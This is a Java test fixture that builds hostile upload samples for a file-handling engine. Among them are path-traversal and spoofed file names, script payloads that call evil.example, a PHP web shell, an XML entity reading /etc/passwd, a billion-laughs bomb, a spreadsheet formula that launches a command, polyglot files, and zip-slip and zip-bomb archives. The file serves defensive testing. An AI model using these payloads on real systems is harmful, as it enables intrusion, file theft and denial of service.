package dev.mortise.engine.file;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SequencedMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Contents that some program would run, and names that mislead people and programs.
final class HostileFiles {
  static final List<String> NAMES =
      List.of(
          "a.png",
          "a.html",
          "a.svg",
          "../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "a\u202Egnp.html",
          "a\u200B\u2066.png",
          "a.png\u2028.html",
          "a\";filename=\"b.html",
          "<script>alert(1)</script>.png",
          "%2e%2e%2fa.html",
          ".htaccess",
          "\uD83D\uDCA5 漏水.png",
          "a".repeat(240) + ".png");

  private static final String SCRIPT = "<script>fetch('//evil.example')</script>";
  private static final String SVG =
      "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + "</svg>";

  private HostileFiles() {}

  static SequencedMap<String, byte[]> contents() {
    var all = new LinkedHashMap<String, byte[]>();
    text(all, "html", "<html><body>" + SCRIPT);
    text(all, "html after blanks", "   \n\t<!DOCTYPE html>" + SCRIPT);
    text(all, "html after a mark", "\uFEFF<html>" + SCRIPT);
    text(all, "html after a comment", "<!-- -->" + SCRIPT);
    text(all, "svg", SVG);
    text(all, "svg after its head", "<?xml version='1.0'?><!DOCTYPE svg>" + SVG);
    text(all, "xhtml", "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT);
    text(
        all,
        "outer entity",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>");
    text(
        all,
        "billion laughs",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>");
    text(all, "style sheet", "<?xml-stylesheet type='text/xsl' href='#'?>" + SCRIPT);
    text(all, "script", "import('//evil.example')");
    text(all, "php", "<?php system($_GET[0]); ?>");
    text(all, "mail archive", "MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT);
    text(all, "shortcut", "[InternetShortcut]\nURL=javascript:alert(1)");
    text(all, "formula", "=cmd|' /C calc'!A0,1");
    text(
        all,
        "paper with script",
        "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>");
    all.put("html in wide letters", ("\uFEFF<html>" + SCRIPT).getBytes(UTF_16LE));
    all.put("html after a zero", ("\0<html>" + SCRIPT).getBytes(UTF_8));
    all.put("program", "MZ\u0090\0".getBytes(ISO_8859_1));
    all.put("flash", "FWS\u0009\0\0\0\0".getBytes(ISO_8859_1));
    all.put("wasm", "\0asm\u0001\0\0\0".getBytes(ISO_8859_1));
    all.put("picture and script", "GIF89a=1;alert(1)//".getBytes(ISO_8859_1));
    all.put("picture and html", joined(Samples.picture("png", 8, 8), "<html>" + SCRIPT));
    all.put("photo and html", joined(Samples.picture("jpg", 8, 8), SVG));
    all.put("endless picture", Samples.claiming(60_000, 60_000));
    all.put("picture without pixels", Samples.claiming(0, 0));
    all.put("half a picture", half(Samples.picture("jpg", 400, 400)));
    all.put("sound and html", ("ID3" + SCRIPT).getBytes(ISO_8859_1));
    all.put("video and html", ("\0\0\0\u0018ftypisom" + SCRIPT).getBytes(ISO_8859_1));
    all.put("climbing archive", archive(Map.of("../../../../tmp/evil", "x")));
    all.put("swollen archive", archive(Map.of("a", "0".repeat(4_000_000))));
    all.put("sheet that is none", archive(Map.of("xl/workbook.xml", SVG)));
    return all;
  }

  private static void text(Map<String, byte[]> all, String name, String content) {
    all.put(name, content.getBytes(UTF_8));
  }

  private static byte[] joined(byte[] first, String then) {
    var out = new ByteArrayOutputStream();
    out.writeBytes(first);
    out.writeBytes(then.getBytes(UTF_8));
    return out.toByteArray();
  }

  private static byte[] half(byte[] whole) {
    return Arrays.copyOf(whole, whole.length / 2);
  }

  private static byte[] archive(Map<String, String> entries) {
    var out = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(out)) {
      for (var entry : entries.entrySet()) {
        zip.putNextEntry(new ZipEntry(entry.getKey()));
        zip.write(entry.getValue().getBytes(UTF_8));
      }
    } catch (IOException impossible) {
      throw new UncheckedIOException(impossible);
    }
    return out.toByteArray();
  }
}
